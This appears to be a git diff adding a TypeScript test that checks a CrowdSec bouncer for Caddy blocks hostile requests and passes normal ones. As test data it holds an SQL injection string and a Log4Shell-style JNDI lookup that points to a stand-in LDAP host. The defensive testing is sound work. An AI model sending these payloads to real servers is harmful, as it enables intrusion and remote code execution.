@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process'
 import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import http from 'node:http'
 import type { Server } from 'node:http'
@@ -20,7 +21,17 @@ const modules = `${root}/usr/lib/nginx/modules`
 const library = `${root}/usr/lib/x86_64-linux-gnu`
 const hasNginxBouncer =
   isInstalled('nginx') && existsSync(`${lua}/crowdsec.lua`) && existsSync(`${modules}/ngx_http_lua_module.so`)
+const caddy = process.env['SEVENFOLD_CADDY'] ?? 'caddy'
 const built = existsSync(edgeMain)
+
+/** True for a Caddy that was built with the module of CrowdSec. */
+function hasCaddyBouncer(): boolean {
+  try {
+    return execFileSync(caddy, ['list-modules'], { encoding: 'utf8' }).includes('http.handlers.appsec')
+  } catch {
+    return false
+  }
+}
 
 const key = 'a-key-of-a-bouncer-0123456789'
 const attack = "user=1'%20OR%20'1'='1"
@@ -238,6 +249,47 @@ describe("CrowdSec's bouncer for nginx", () => {
       await startEdge(asked)
       const stranger = await startNginx(asked, { [`API_KEY=${key}`]: 'API_KEY=another-key-of-a-bouncer' })
       expect((await send(stranger, get('/'))).body).not.toBe('app')
+    },
+  )
+})
+
+describe("CrowdSec's module for Caddy", () => {
+  it.skipIf(!built || !hasCaddyBouncer())(
+    'lets pass what the edge lets pass, with its body, and hands nothing on while the edge is away (needs Caddy built with caddy-crowdsec-bouncer, dist)',
+    async () => {
+      const decisions = http.createServer((_request, response) => response.end('{"new":null,"deleted":null}'))
+      decisions.listen(0, '127.0.0.1')
+      await once(decisions, 'listening')
+      const [asked, port] = [await freePort(), await freePort()]
+      await startEdge(asked)
+      const file = join(folder, 'Caddyfile')
+      writeFileSync(
+        file,
+        exampleText('Caddyfile-crowdsec', {
+          ':443': `:${port}`,
+          '127.0.0.1:7780': `127.0.0.1:${(decisions.address() as AddressInfo).port}`,
+          '127.0.0.1:7422': `127.0.0.1:${asked}`,
+          '127.0.0.1:8080': `127.0.0.1:${appPort()}`,
+          'the-key-of-the-bouncer': key,
+        }),
+      )
+      proxy = await RealServer.start([caddy, 'run', '--config', file, '--adapter', 'caddyfile'], port)
+      for (const request of [get('/a?b=1'), post('a=1'), post('')]) {
+        expect((await send(port, request)).body, request).toBe('app')
+      }
+      const hostile = [
+        get(`/?${attack}`),
+        post(attack),
+        get('/', 'User-Agent: ${jndi:ldap://192.0.2.1/a}\r\n'),
+      ]
+      for (const request of hostile) expect((await send(port, request)).status, request).toBe(403)
+      expect((await send(port, chunked('a=1'))).status).toBe(411)
+      expect(seen).toEqual(['GET /a?b=1 ', 'POST /p a=1', 'POST /p '])
+      await edge?.stop()
+      expect((await send(port, get('/'))).status).toBe(500)
+      expect(seen).toHaveLength(3)
+      decisions.closeAllConnections()
+      decisions.close()
     },
   )
 })
